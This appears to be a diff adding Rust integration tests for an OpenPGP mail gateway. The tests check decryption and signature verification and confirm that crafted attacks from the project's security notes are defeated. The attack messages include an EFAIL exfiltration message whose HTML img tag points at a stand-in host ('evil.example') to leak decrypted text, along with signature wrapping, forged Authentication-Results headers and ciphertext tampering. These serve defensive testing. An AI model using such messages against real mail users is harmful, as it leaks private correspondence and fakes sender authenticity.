@@ -1,0 +1,1058 @@
+//! Inbound decryption and verification through the real binary: messages made by gpg 2.2,
+//! by sq and by sealpost's own outbound path arrive over SMTP at the inbound listener,
+//! and what reaches the mailbox side (smtp-sink, a Maildir) is checked. Attacks from
+//! `security.md` each get a crafted message: none may yield plaintext or a `pass`.
+//!
+//! One gateway per test function: each function sends several cases to it and tells the
+//! copies apart by an `X-Test-Case` header, which the gateway keeps in the outer header.
+
+use std::path::Path;
+use std::time::Duration;
+
+use sealpost_keyring::openpgp;
+
+use super::common::{sq, swaks, write, Gpg, Raw, Sealpost, Server};
+use super::upstream::{wait_for, SmtpSink};
+
+const LONG: Duration = Duration::from_secs(60);
+const AUTHSERV: &str = "mx.example.org";
+
+/// A receiving organisation: local users Bob and Carol (keys made by sealpost), a known
+/// outside sender Alice (gpg), a known sender Mallory whose user ID is his own, and Eve,
+/// whom the keyring does not know.
+struct World {
+    s: Sealpost,
+    alice: Gpg,
+    mallory: Gpg,
+    eve: Gpg,
+    bob_fpr: String,
+    carol_fpr: String,
+    alice_fpr: String,
+    tmp: tempfile::TempDir,
+}
+
+impl World {
+    fn new() -> World {
+        let s = Sealpost::new();
+        let bob_fpr = s.generate("bob@example.org", &[]);
+        let carol_fpr = s.generate("carol@example.org", &[]);
+        let alice = Gpg::new();
+        let alice_fpr = alice.generate("Alice <alice@example.net>", "default", "default", "never");
+        let mallory = Gpg::new();
+        mallory.generate(
+            "Mallory <mallory@evil.example>",
+            "default",
+            "default",
+            "never",
+        );
+        let eve = Gpg::new();
+        eve.generate("Eve <alice@example.net>", "default", "default", "never");
+        for g in [&alice, &mallory, &eve] {
+            for who in ["bob@example.org", "carol@example.org"] {
+                g.ok_with_input(&["--import"], s.ok(&["keys", "export", who]).as_bytes());
+            }
+        }
+        for (g, who) in [
+            (&alice, "alice@example.net"),
+            (&mallory, "mallory@evil.example"),
+        ] {
+            let cert = g.ok(&["--armor", "--export", who]);
+            assert!(s
+                .run_with_input(&["keys", "import", "-"], &cert)
+                .status
+                .success());
+        }
+        World {
+            s,
+            alice,
+            mallory,
+            eve,
+            bob_fpr,
+            carol_fpr,
+            alice_fpr,
+            tmp: tempfile::tempdir().expect("tempdir"),
+        }
+    }
+
+    /// `serve` with one inbound listener delivering to `deliver`.
+    fn serve(&self, deliver: &str, extra: &str) -> Server {
+        self.s.serve(&config(deliver, extra), &[])
+    }
+}
+
+fn config(deliver: &str, extra: &str) -> String {
+    format!(
+        "hostname = \"{AUTHSERV}\"\n\n[[listener]]\nmode = \"inbound\"\naddress = \"127.0.0.1:0\"\n\
+         tls = \"none\"\n\n[inbound]\ndeliver = \"{deliver}\"\n{extra}"
+    )
+}
+
+/// `text` with every line ending made CRLF.
+fn crlf(text: &str) -> String {
+    text.replace("\r\n", "\n").replace('\n', "\r\n")
+}
+
+fn utf8(bytes: Vec<u8>) -> String {
+    String::from_utf8(bytes).expect("UTF-8")
+}
+
+/// An RFC 3156 `multipart/encrypted` message around `armored`.
+fn pgp_mime_from(case: &str, from: &str, to: &str, subject: &str, armored: &str) -> String {
+    crlf(&format!(
+        "From: {from}\nTo: {to}\nSubject: {subject}\nMessage-ID: <{case}@example.net>\n\
+         X-Test-Case: {case}\nMIME-Version: 1.0\n\
+         Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc-{case}\"\n\n\
+         This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)\n\
+         --enc-{case}\nContent-Type: application/pgp-encrypted\nContent-Description: PGP/MIME version identification\n\n\
+         Version: 1\n\n\
+         --enc-{case}\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\n\
+         Content-Disposition: inline; filename=\"encrypted.asc\"\n\n\
+         {armored}\n--enc-{case}--\n"
+    ))
+}
+
+/// A single-part text message whose body is `body`.
+fn text_message_from(case: &str, from: &str, to: &str, subject: &str, body: &str) -> String {
+    crlf(&format!(
+        "From: {from}\nTo: {to}\nSubject: {subject}\nMessage-ID: <{case}@example.net>\n\
+         X-Test-Case: {case}\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n{body}"
+    ))
+}
+
+/// [`pgp_mime_from`] from Alice to Bob, with the case as the subject.
+fn pgp_mime(case: &str, armored: &str) -> String {
+    pgp_mime_from(
+        case,
+        "Alice <alice@example.net>",
+        "bob@example.org",
+        case,
+        armored,
+    )
+}
+
+/// [`text_message_from`] from Alice to Bob, with the case as the subject.
+fn text_message(case: &str, body: &str) -> String {
+    text_message_from(
+        case,
+        "Alice <alice@example.net>",
+        "bob@example.org",
+        case,
+        body,
+    )
+}
+
+/// A `multipart/signed` message: `part` (CRLF, no final line end) signed by `signature`.
+fn multipart_signed(case: &str, from: &str, to: &str, part: &str, signature: &str) -> String {
+    crlf(&format!(
+        "From: {from}\nTo: {to}\nSubject: signed {case}\nMessage-ID: <{case}@example.net>\n\
+         X-Test-Case: {case}\nMIME-Version: 1.0\n\
+         Content-Type: multipart/signed; micalg=pgp-sha256; protocol=\"application/pgp-signature\"; boundary=\"sig-{case}\"\n\n\
+         --sig-{case}\n{part}\n--sig-{case}\n\
+         Content-Type: application/pgp-signature; name=\"signature.asc\"\n\n\
+         {signature}\n--sig-{case}--\n"
+    ))
+}
+
+/// A MIME part to be signed, with CRLF line ends and no final line end (RFC 3156 §5).
+fn signed_part(text: &str) -> String {
+    crlf(&format!(
+        "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 7bit\n\n{text}"
+    ))
+}
+
+/// gpg's detached, armored signature over the exact bytes of `part`.
+fn gpg_detached(g: &Gpg, signer: &str, part: &str) -> String {
+    utf8(g.ok_with_input(
+        &[
+            "--armor",
+            "--detach-sign",
+            "--digest-algo",
+            "SHA256",
+            "-u",
+            signer,
+        ],
+        part.as_bytes(),
+    ))
+}
+
+/// Binary OpenPGP data in ASCII armor (sequoia's writer).
+fn armor(binary: &[u8]) -> String {
+    use std::io::Write;
+    let mut w = openpgp::armor::Writer::new(Vec::new(), openpgp::armor::Kind::Message)
+        .expect("armor writer");
+    w.write_all(binary).expect("armor");
+    utf8(w.finalize().expect("armor"))
+}
+
+/// Sends `message` byte-exact from `from` to `rcpts` and returns the reply to the final dot.
+fn send(port: u16, from: &str, rcpts: &[&str], message: &str) -> String {
+    let mut c = Raw::connect(port);
+    assert!(c.cmd("EHLO client.example.net").starts_with("250"));
+    let r = c.cmd(&format!("MAIL FROM:<{from}>"));
+    assert!(r.starts_with("250"), "{r}");
+    for rcpt in rcpts {
+        let r = c.cmd(&format!("RCPT TO:<{rcpt}>"));
+        assert!(r.starts_with("250"), "RCPT {rcpt}: {r}");
+    }
+    assert!(c.cmd("DATA").starts_with("354"));
+    let mut data = String::with_capacity(message.len() + 16);
+    for line in message.split_inclusive("\r\n") {
+        if line.starts_with('.') {
+            data.push('.');
+        }
+        data.push_str(line);
+    }
+    if !data.ends_with("\r\n") {
+        data.push_str("\r\n");
+    }
+    data.push_str(".\r\n");
+    c.send(data.as_bytes());
+    let reply = c.reply();
+    let _ = c.cmd("QUIT");
+    reply
+}
+
+fn delivered(port: u16, from: &str, rcpts: &[&str], message: &str) {
+    let reply = send(port, from, rcpts, message);
+    assert!(reply.starts_with("250"), "{reply}");
+}
+
+/// The copy of `case` that reached `sink` for `rcpt`, as text with CRLF line ends.
+fn copy_for(sink: &SmtpSink, case: &str, rcpt: &str) -> String {
+    let marker = format!("X-Test-Case: {case}\n");
+    wait_for(LONG, &format!("{case} for {rcpt} at smtp-sink"), || {
+        sink.messages().into_iter().find_map(|d| {
+            let text = d.text().replace("\r\n", "\n");
+            (text.contains(&marker) && d.recipients.iter().any(|r| r == rcpt)).then(|| crlf(&text))
+        })
+    })
+}
+
+/// Sends `message` from Alice to Bob and returns the copy of `case` delivered for Bob.
+fn to_bob(port: u16, sink: &SmtpSink, case: &str, message: &str) -> String {
+    delivered(port, "alice@example.net", &["bob@example.org"], message);
+    copy_for(sink, case, "bob@example.org")
+}
+
+/// The header section of `message`, unfolded: one `(name, value)` per field.
+fn fields(message: &str) -> Vec<(String, String)> {
+    let head = message.split("\r\n\r\n").next().unwrap_or_default();
+    let mut out: Vec<(String, String)> = Vec::new();
+    for line in head.split("\r\n") {
+        if line.starts_with([' ', '\t']) {
+            if let Some(last) = out.last_mut() {
+                last.1.push(' ');
+                last.1.push_str(line.trim());
+            }
+        } else if let Some((n, v)) = line.split_once(':') {
+            out.push((n.to_string(), v.trim().to_string()));
+        }
+    }
+    out
+}
+
+fn field_values(message: &str, name: &str) -> Vec<String> {
+    fields(message)
+        .into_iter()
+        .filter(|(n, _)| n.eq_ignore_ascii_case(name))
+        .map(|(_, v)| v)
+        .collect()
+}
+
+/// Our verdict and our Authentication-Results, checking there is exactly one of each.
+fn results(message: &str) -> (String, String) {
+    let verdicts = field_values(message, "X-Sealpost-Verdict");
+    assert_eq!(verdicts.len(), 1, "one verdict: {message}");
+    let ours: Vec<String> = field_values(message, "Authentication-Results")
+        .into_iter()
+        .filter(|v| {
+            v.split(';')
+                .next()
+                .is_some_and(|id| id.trim().eq_ignore_ascii_case(AUTHSERV))
+        })
+        .collect();
+    assert_eq!(
+        ours.len(),
+        1,
+        "one Authentication-Results of ours: {message}"
+    );
+    (verdicts[0].clone(), ours[0].clone())
+}
+
+/// The verdict's `key=value` for `key`.
+fn verdict_of(verdict: &str, key: &str) -> String {
+    verdict
+        .split(';')
+        .filter_map(|kv| kv.trim().split_once('='))
+        .find(|(k, _)| *k == key)
+        .map(|(_, v)| v.trim_matches('"').to_string())
+        .unwrap_or_else(|| panic!("no {key} in {verdict}"))
+}
+
+fn pgp_result(ar: &str) -> String {
+    ar.split_whitespace()
+        .find_map(|t| t.strip_prefix("pgp="))
+        .map(|t| t.trim_end_matches(';').to_string())
+        .unwrap_or_else(|| panic!("no pgp= in {ar}"))
+}
+
+/// Waits for `case`'s copy for Bob and checks its verdict's `key=value` pairs and, when
+/// given, its `pgp=` result.
+fn check(sink: &SmtpSink, case: &str, verdict: &[(&str, &str)], pgp: Option<&str>) -> String {
+    let copy = copy_for(sink, case, "bob@example.org");
+    let (v, ar) = results(&copy);
+    for (key, want) in verdict {
+        assert_eq!(verdict_of(&v, key), *want, "{case}: {copy}");
+    }
+    if let Some(want) = pgp {
+        assert_eq!(pgp_result(&ar), want, "{case}: {copy}");
+    }
+    copy
+}
+
+/// Checks a copy that must be decrypted and validly signed by Alice.
+fn assert_pass(copy: &str, alice_fpr: &str, decrypted: bool) {
+    let (v, ar) = results(copy);
+    assert_eq!(verdict_of(&v, "signature"), "valid", "{copy}");
+    assert_eq!(pgp_result(&ar), "pass", "{copy}");
+    assert!(ar.contains("header.from=alice@example.net"), "{ar}");
+    assert!(
+        verdict_of(&v, "signer").eq_ignore_ascii_case(alice_fpr),
+        "{v}"
+    );
+    let enc = verdict_of(&v, "encryption");
+    if decrypted {
+        assert_eq!(enc, "decrypted", "{copy}");
+        assert!(ar.contains("policy.encrypted=yes"), "{ar}");
+        assert!(!copy.contains("BEGIN PGP MESSAGE"), "{copy}");
+    } else {
+        assert_eq!(enc, "none", "{copy}");
+    }
+}
+
+/// Checks that nothing of `secret` reached the copy and that it is not a pass.
+fn assert_sealed(copy: &str, secret: &str) {
+    assert!(!copy.contains(secret), "plaintext leaked: {copy}");
+    let (_, ar) = results(copy);
+    assert_ne!(pgp_result(&ar), "pass", "{copy}");
+}
+
+fn maildir_files(dir: &Path) -> Vec<String> {
+    let new = dir.join("new");
+    let mut out = Vec::new();
+    if let Ok(entries) = std::fs::read_dir(new) {
+        for e in entries.flatten() {
+            if let Ok(text) = std::fs::read(e.path()) {
+                out.push(String::from_utf8_lossy(&text).into_owned());
+            }
+        }
+    }
+    out
+}
+
+#[test]
+fn gpg_mail_is_decrypted_verified_and_delivered() {
+    let w = World::new();
+    let sink = SmtpSink::start(&[]);
+    let gw = w.serve(&sink.address(), "");
+    let port = gw.port();
+    let gpg = |args: &[&str], input: &str| utf8(w.alice.ok_with_input(args, input.as_bytes()));
+    let enc_sign = [
+        "--armor",
+        "--encrypt",
+        "--sign",
+        "-u",
+        "alice@example.net",
+        "-r",
+        "bob@example.org",
+    ];
+
+    // PGP/MIME, encrypted and signed, sent by swaks.
+    let payload = crlf(
+        "Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n\
+         <p>Grüße, Bob: the vault code is 4711.</p>\n",
+    );
+    let msg = pgp_mime("gpg-pgp-mime", &gpg(&enc_sign, &payload));
+    let file = write(w.tmp.path(), "pgp-mime.eml", msg.as_bytes());
+    let (ok, out) = swaks(
+        port,
+        &[
+            "--from",
+            "alice@example.net",
+            "--to",
+            "bob@example.org",
+            "--data",
+            file.to_str().unwrap(),
+        ],
+    );
+    assert!(ok, "{out}");
+    let copy = copy_for(&sink, "gpg-pgp-mime", "bob@example.org");
+    assert_pass(&copy, &w.alice_fpr, true);
+    assert!(
+        copy.contains("Content-Type: text/html"),
+        "the payload's own type: {copy}"
+    );
+    assert!(copy.contains("4711"), "the decrypted text: {copy}");
+    let (v, ar) = results(&copy);
+    assert!(
+        verdict_of(&v, "key").eq_ignore_ascii_case(&w.bob_fpr),
+        "decrypted with Bob's key: {v}"
+    );
+    assert!(
+        ar.contains(&format!("policy.decryption-key={}", w.bob_fpr)),
+        "{ar}"
+    );
+    // 8-bit UTF-8 arrives 7-bit clean, with the same text once decoded.
+    assert!(copy.bytes().all(|b| b < 0x80), "7-bit output: {copy}");
+
+    // Inline PGP: a text body that is one armored, encrypted and signed message.
+    let armored = gpg(&enc_sign, "Inline secret for Bob: 8086.\n");
+    let copy = to_bob(
+        port,
+        &sink,
+        "gpg-inline",
+        &text_message("gpg-inline", &armored),
+    );
+    assert_pass(&copy, &w.alice_fpr, true);
+    assert!(copy.contains("Inline secret for Bob: 8086."), "{copy}");
+
+    // ZIP-compressed.
+    let mut zip = enc_sign.to_vec();
+    zip.extend(["--compress-algo", "zip"]);
+    let armored = gpg(
+        &zip,
+        &crlf("Content-Type: text/plain\n\nZipped secret 6502.\n"),
+    );
+    let copy = to_bob(port, &sink, "gpg-zip", &pgp_mime("gpg-zip", &armored));
+    assert_pass(&copy, &w.alice_fpr, true);
+    assert!(copy.contains("Zipped secret 6502."), "{copy}");
+
+    // multipart/signed: verified over the exact bytes, delivered byte-identical.
+    let part = signed_part("Signed, not sealed: 1984.");
+    let msg = multipart_signed(
+        "gpg-signed",
+        "Alice <alice@example.net>",
+        "bob@example.org",
+        &part,
+        &gpg_detached(&w.alice, "alice@example.net", &part),
+    );
+    let copy = to_bob(port, &sink, "gpg-signed", &msg);
+    assert_pass(&copy, &w.alice_fpr, false);
+    let body = |m: &str| {
+        m.split_once("\r\n\r\n")
+            .map(|(_, b)| b.to_string())
+            .unwrap()
+    };
+    assert_eq!(
+        body(&copy).trim_end(),
+        body(&msg).trim_end(),
+        "body unchanged"
+    );
+
+    // Cleartext-signed.
+    let signed = gpg(
+        &["--clearsign", "-u", "alice@example.net"],
+        "Clear and signed: 42.\n",
+    );
+    let copy = to_bob(
+        port,
+        &sink,
+        "gpg-clearsign",
+        &text_message("gpg-clearsign", &signed),
+    );
+    assert_pass(&copy, &w.alice_fpr, false);
+
+    // Plain mail: no signature, nothing to decrypt, still a verdict.
+    delivered(
+        port,
+        "alice@example.net",
+        &["bob@example.org"],
+        &text_message("plain", "Just text.\n"),
+    );
+    check(
+        &sink,
+        "plain",
+        &[("signature", "none"), ("encryption", "none")],
+        Some("none"),
+    );
+
+    // To a Maildir as well.
+    let maildir = w.tmp.path().join("Maildir");
+    drop(gw);
+    let gw = w.serve(&format!("maildir:{}", maildir.display()), "");
+    let armored = gpg(
+        &enc_sign,
+        &crlf("Content-Type: text/plain\n\nFor the Maildir: 1337.\n"),
+    );
+    delivered(
+        gw.port(),
+        "alice@example.net",
+        &["bob@example.org"],
+        &pgp_mime("gpg-maildir", &armored),
+    );
+    let copy = wait_for(LONG, "a Maildir file", || {
+        maildir_files(&maildir)
+            .into_iter()
+            .find(|m| m.contains("X-Test-Case: gpg-maildir"))
+    });
+    assert_pass(&crlf(&copy), &w.alice_fpr, true);
+    assert!(copy.contains("For the Maildir: 1337."), "{copy}");
+}
+
+#[test]
+fn two_local_recipients_each_get_a_copy_decrypted_with_their_own_key() {
+    let w = World::new();
+    let sink = SmtpSink::start(&[]);
+    let gw = w.serve(&sink.address(), "");
+    let armored = utf8(w.alice.ok_with_input(
+        &[
+            "--armor",
+            "--encrypt",
+            "--sign",
+            "-u",
+            "alice@example.net",
+            "-r",
+            "bob@example.org",
+            "-r",
+            "carol@example.org",
+        ],
+        crlf("Content-Type: text/plain\n\nFor both of you: 2600.\n").as_bytes(),
+    ));
+    delivered(
+        gw.port(),
+        "alice@example.net",
+        &["bob@example.org", "carol@example.org"],
+        &pgp_mime_from(
+            "two",
+            "Alice <alice@example.net>",
+            "bob@example.org, carol@example.org",
+            "two",
+            &armored,
+        ),
+    );
+    for (who, fpr) in [
+        ("bob@example.org", &w.bob_fpr),
+        ("carol@example.org", &w.carol_fpr),
+    ] {
+        let copy = copy_for(&sink, "two", who);
+        assert_pass(&copy, &w.alice_fpr, true);
+        let (v, _) = results(&copy);
+        assert!(
+            verdict_of(&v, "key").eq_ignore_ascii_case(fpr),
+            "{who}: {v}"
+        );
+        assert!(copy.contains("For both of you: 2600."), "{copy}");
+    }
+}
+
+#[test]
+fn sq_mail_is_decrypted_and_verified() {
+    let w = World::new();
+    let dir = w.tmp.path();
+    let key = dir.join("dave.key");
+    let path = |p: &Path| p.to_str().unwrap().to_string();
+    sq(&[
+        "key",
+        "generate",
+        "--userid",
+        "Dave <dave@example.com>",
+        "--export",
+        &path(&key),
+    ]);
+    let cert = write(dir, "dave.cert", &sq(&["key", "extract-cert", &path(&key)]));
+    assert!(w
+        .s
+        .ok(&["keys", "import", &path(&cert)])
+        .contains("dave@example.com"));
+    let bob = write(
+        dir,
+        "bob.cert",
+        w.s.ok(&["keys", "export", "bob@example.org"]).as_bytes(),
+    );
+    let sink = SmtpSink::start(&[]);
+    let gw = w.serve(&sink.address(), "");
+    let port = gw.port();
+    let dave_fpr = {
+        let listing = w.s.list_json();
+        listing
+            .as_array()
+            .and_then(|a| {
+                a.iter()
+                    .find(|k| k.to_string().contains("dave@example.com"))
+            })
+            .and_then(|k| k["fingerprint"].as_str())
+            .expect("dave in the keyring")
+            .to_string()
+    };
+    let check = |copy: &str, decrypted: bool| {
+        let (v, ar) = results(copy);
+        assert_eq!(verdict_of(&v, "signature"), "valid", "{copy}");
+        assert_eq!(pgp_result(&ar), "pass", "{copy}");
+        assert!(ar.contains("header.from=dave@example.com"), "{ar}");
+        assert!(
+            verdict_of(&v, "signer").eq_ignore_ascii_case(&dave_fpr),
+            "{v}"
+        );
+        let want = if decrypted { "decrypted" } else { "none" };
+        assert_eq!(verdict_of(&v, "encryption"), want, "{copy}");
+    };
+
+    let payload = write(
+        dir,
+        "payload",
+        crlf("Content-Type: text/plain\n\nFrom sq: 7777.\n").as_bytes(),
+    );
+    let armored = utf8(sq(&[
+        "encrypt",
+        "--recipient-cert",
+        &path(&bob),
+        "--signer-key",
+        &path(&key),
+        &path(&payload),
+    ]));
+    delivered(
+        port,
+        "dave@example.com",
+        &["bob@example.org"],
+        &pgp_mime_from(
+            "sq-pgp-mime",
+            "Dave <dave@example.com>",
+            "bob@example.org",
+            "sq",
+            &armored,
+        ),
+    );
+    let copy = copy_for(&sink, "sq-pgp-mime", "bob@example.org");
+    check(&copy, true);
+    assert!(copy.contains("From sq: 7777."), "{copy}");
+
+    let part = signed_part("Signed by sq: 8888.");
+    let part_file = write(dir, "part", part.as_bytes());
+    let sig = utf8(sq(&[
+        "sign",
+        "--detached",
+        "--signer-key",
+        &path(&key),
+        &path(&part_file),
+    ]));
+    delivered(
+        port,
+        "dave@example.com",
+        &["bob@example.org"],
+        &multipart_signed(
+            "sq-signed",
+            "Dave <dave@example.com>",
+            "bob@example.org",
+            &part,
+            &sig,
+        ),
+    );
+    check(&copy_for(&sink, "sq-signed", "bob@example.org"), false);
+
+    let text = write(dir, "text", b"Cleartext from sq: 9999.\n");
+    let signed = utf8(sq(&[
+        "sign",
+        "--cleartext-signature",
+        "--signer-key",
+        &path(&key),
+        &path(&text),
+    ]));
+    delivered(
+        port,
+        "dave@example.com",
+        &["bob@example.org"],
+        &text_message_from(
+            "sq-clear",
+            "Dave <dave@example.com>",
+            "bob@example.org",
+            "clear",
+            &signed,
+        ),
+    );
+    check(&copy_for(&sink, "sq-clear", "bob@example.org"), false);
+}
+
+#[test]
+fn sealpost_outbound_to_sealpost_inbound_round_trip() {
+    // Bob's organisation: the inbound gateway of `World`. Erin's: another sealpost that
+    // encrypts and signs on the way out.
+    let w = World::new();
+    let erin = Sealpost::new();
+    let erin_fpr = erin.generate("erin@example.com", &[]);
+    let bob_cert = w.s.ok(&["keys", "export", "bob@example.org"]);
+    assert!(erin
+        .run_with_input(&["keys", "import", "-"], bob_cert.as_bytes())
+        .status
+        .success());
+    let erin_cert = erin.ok(&["keys", "export", "erin@example.com"]);
+    assert!(w
+        .s
+        .run_with_input(&["keys", "import", "-"], erin_cert.as_bytes())
+        .status
+        .success());
+
+    let sink = SmtpSink::start(&[]);
+    let inbound = w.serve(&sink.address(), "");
+    let outbound = erin.serve(
+        &format!(
+            "[[listener]]\nmode = \"outbound\"\naddress = \"127.0.0.1:0\"\ntls = \"none\"\n\n\
+             [upstream]\naddress = \"127.0.0.1:{}\"\ntls = \"none\"\n",
+            inbound.port()
+        ),
+        &[],
+    );
+    let (ok, out) = swaks(
+        outbound.port(),
+        &[
+            "--from",
+            "erin@example.com",
+            "--to",
+            "bob@example.org",
+            "--header",
+            "From: Erin <erin@example.com>",
+            "--header",
+            "Subject: the round trip",
+            "--header",
+            "X-Test-Case: round-trip",
+            "--body",
+            "Both ways through sealpost: 3141.",
+        ],
+    );
+    assert!(ok, "{out}");
+    let copy = wait_for(LONG, "the round trip at smtp-sink", || {
+        sink.messages()
+            .into_iter()
+            .map(|d| crlf(&d.text().replace("\r\n", "\n")))
+            .next()
+    });
+    let (v, ar) = results(&copy);
+    assert_eq!(verdict_of(&v, "signature"), "valid", "{copy}");
+    assert_eq!(verdict_of(&v, "encryption"), "decrypted", "{copy}");
+    assert_eq!(verdict_of(&v, "protected-headers"), "applied", "{copy}");
+    assert!(
+        verdict_of(&v, "signer").eq_ignore_ascii_case(&erin_fpr),
+        "{v}"
+    );
+    assert_eq!(pgp_result(&ar), "pass", "{copy}");
+    // The signed protected Subject replaces the outer "[...]".
+    assert_eq!(
+        field_values(&copy, "Subject"),
+        vec!["the round trip".to_string()],
+        "{copy}"
+    );
+    assert!(field_values(&copy, "HP-Outer").is_empty(), "{copy}");
+    assert!(copy.contains("Both ways through sealpost: 3141."), "{copy}");
+}
+
+#[test]
+fn attacks_yield_no_plaintext_and_no_pass() {
+    let w = World::new();
+    let sink = SmtpSink::start(&[]);
+    let gw = w.serve(&sink.address(), "max_plaintext = \"8MiB\"\n");
+    let port = gw.port();
+    let alice = "Alice <alice@example.net>";
+    let send_bob = |msg: &str| delivered(port, "alice@example.net", &["bob@example.org"], msg);
+    let encrypt_to = |to: &str, text: &str| {
+        utf8(w.alice.ok_with_input(
+            &[
+                "--armor",
+                "--encrypt",
+                "--sign",
+                "-u",
+                "alice@example.net",
+                "-r",
+                to,
+            ],
+            crlf(&format!("Content-Type: text/plain\n\n{text}\n")).as_bytes(),
+        ))
+    };
+    let binary_to_bob = |text: &str| {
+        w.alice.ok_with_input(
+            &["--encrypt", "-r", "bob@example.org"],
+            crlf(&format!("Content-Type: text/plain\n\n{text}\n")).as_bytes(),
+        )
+    };
+
+    // EFAIL direct exfiltration: HTML, the ciphertext, HTML, in multipart/mixed.
+    let armored = encrypt_to("bob@example.org", "EFAIL secret 5150");
+    let efail = crlf(&format!(
+        "From: {alice}\nTo: bob@example.org\nSubject: efail\nX-Test-Case: efail\nMIME-Version: 1.0\n\
+         Content-Type: multipart/mixed; boundary=\"mix\"\n\n\
+         --mix\nContent-Type: text/html\n\n<img src=\"http://evil.example/\n\
+         --mix\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc\"\n\n\
+         --enc\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n\
+         --enc\nContent-Type: application/octet-stream\n\n{armored}\n--enc--\n\n\
+         --mix\nContent-Type: text/html\n\n\">\n--mix--\n"
+    ));
+    send_bob(&efail);
+    let copy = check(&sink, "efail", &[("encryption", "nested-ignored")], None);
+    assert_sealed(&copy, "EFAIL secret 5150");
+
+    // SED, from gpg --rfc2440: no integrity protection.
+    let sed = w.alice.ok_with_input(
+        &[
+            "--armor",
+            "--rfc2440",
+            "--cipher-algo",
+            "CAST5",
+            "--encrypt",
+            "-r",
+            "bob@example.org",
+        ],
+        b"SED secret 6809\n",
+    );
+    send_bob(&pgp_mime("sed", &utf8(sed)));
+    let copy = check(
+        &sink,
+        "sed",
+        &[("encryption", "no-integrity")],
+        Some("fail"),
+    );
+    assert_sealed(&copy, "SED secret 6809");
+
+    // Truncated ciphertext.
+    let mut truncated = binary_to_bob("Truncated secret 8080");
+    truncated.truncate(truncated.len() - 10);
+    send_bob(&pgp_mime("truncated", &armor(&truncated)));
+    let copy = check(
+        &sink,
+        "truncated",
+        &[("encryption", "integrity-failure")],
+        None,
+    );
+    assert_sealed(&copy, "Truncated secret");
+
+    // A flipped MDC (the last byte of the SEIPD packet is the MDC's).
+    let mut flipped = binary_to_bob("Flipped secret 6800");
+    if let Some(last) = flipped.last_mut() {
+        *last ^= 0x01;
+    }
+    send_bob(&pgp_mime("mdc", &armor(&flipped)));
+    let copy = check(
+        &sink,
+        "mdc",
+        &[("encryption", "integrity-failure")],
+        Some("fail"),
+    );
+    assert_sealed(&copy, "Flipped secret");
+
+    // A validly signed part inside an unsigned wrapper with the attacker's text.
+    let part = signed_part("The genuine words of Alice.");
+    let sig = gpg_detached(&w.alice, "alice@example.net", &part);
+    let wrapped = crlf(&format!(
+        "From: {alice}\nTo: bob@example.org\nSubject: wrapped\nX-Test-Case: wrapped\nMIME-Version: 1.0\n\
+         Content-Type: multipart/mixed; boundary=\"outer\"\n\n\
+         --outer\nContent-Type: text/plain\n\nYou are fired. -- Alice\n\
+         --outer\nContent-Type: multipart/signed; micalg=pgp-sha256; protocol=\"application/pgp-signature\"; boundary=\"sig\"\n\n\
+         --sig\n{part}\n--sig\nContent-Type: application/pgp-signature\n\n{sig}\n--sig--\n\n--outer--\n"
+    ));
+    send_bob(&wrapped);
+    check(
+        &sink,
+        "wrapped",
+        &[("signature", "partial")],
+        Some("neutral"),
+    );
+
+    // Signatures that must not pass: a key whose user ID is not the From address, a
+    // key the keyring does not know (its user ID claims Alice's address), two From
+    // addresses, and a signed part changed in transit.
+    let two = "alice@example.net, mallory@evil.example";
+    let cases = [
+        (
+            "mismatch",
+            &w.mallory,
+            "mallory@evil.example",
+            alice,
+            false,
+            "from-mismatch",
+            "fail",
+        ),
+        (
+            "unknown",
+            &w.eve,
+            "alice@example.net",
+            alice,
+            false,
+            "unknown-signer",
+            "neutral",
+        ),
+        (
+            "two-from",
+            &w.alice,
+            "alice@example.net",
+            two,
+            false,
+            "multiple-from",
+            "fail",
+        ),
+        (
+            "changed",
+            &w.alice,
+            "alice@example.net",
+            alice,
+            true,
+            "invalid",
+            "fail",
+        ),
+    ];
+    for (case, g, key, from, change, want, pgp) in cases {
+        let part = signed_part(&format!("Signed for {case}: pay 10 EUR to Bob."));
+        let sig = gpg_detached(g, key, &part);
+        let sent = if change {
+            part.replace("10 EUR", "9999 EUR")
+        } else {
+            part
+        };
+        send_bob(&multipart_signed(
+            case,
+            from,
+            "bob@example.org",
+            &sent,
+            &sig,
+        ));
+        let copy = check(&sink, case, &[("signature", want)], Some(pgp));
+        assert!(!copy.contains("header.from=mallory"), "{copy}");
+    }
+
+    // Forged results, outside and inside an (unsigned) encrypted payload.
+    let forged = "Authentication-Results: mx.example.org; pgp=pass header.from=alice@example.net\n\
+                  authentication-results: MX.EXAMPLE.ORG;\n\tpgp=pass\n\
+                  X-Sealpost-Verdict: signature=valid; encryption=decrypted\n\
+                  x-sealpost-verdict:\n signature=valid\n\
+                  X-SEALPOST-Protected-Subject: forged\n";
+    let inner = w.alice.ok_with_input(
+        &["--armor", "--encrypt", "-r", "bob@example.org"],
+        crlf(&format!(
+            "{forged}Content-Type: text/plain\n\nInner text 1066.\n"
+        ))
+        .as_bytes(),
+    );
+    let msg = pgp_mime("forged", &utf8(inner));
+    let msg = crlf(&format!(
+        "{forged}Authentication-Results: other.example; spf=pass smtp.mailfrom=example.net\n"
+    )) + &msg;
+    send_bob(&msg);
+    let copy = check(
+        &sink,
+        "forged",
+        &[("signature", "none"), ("encryption", "decrypted")],
+        Some("none"),
+    );
+    assert!(copy.contains("Inner text 1066."), "{copy}");
+    assert!(!copy.to_ascii_lowercase().contains("pgp=pass"), "{copy}");
+    let lower = copy.to_ascii_lowercase();
+    assert!(!lower.contains("protected-subject: forged"), "{copy}");
+    assert!(!lower.contains("signature=valid"), "{copy}");
+    assert_eq!(
+        field_values(&copy, "Authentication-Results")
+            .iter()
+            .filter(|v| v.starts_with("other.example"))
+            .count(),
+        1,
+        "others' results are kept: {copy}"
+    );
+
+    // The reply oracle: Carol's ciphertext, sent to Bob.
+    let armored = encrypt_to("carol@example.org", "Carol's secret 1729");
+    send_bob(&pgp_mime("oracle", &armored));
+    let copy = check(&sink, "oracle", &[("encryption", "no-key")], None);
+    assert_sealed(&copy, "Carol's secret 1729");
+    assert!(
+        copy.contains(armored.lines().nth(3).unwrap()),
+        "delivered unchanged: {copy}"
+    );
+}
+
+#[test]
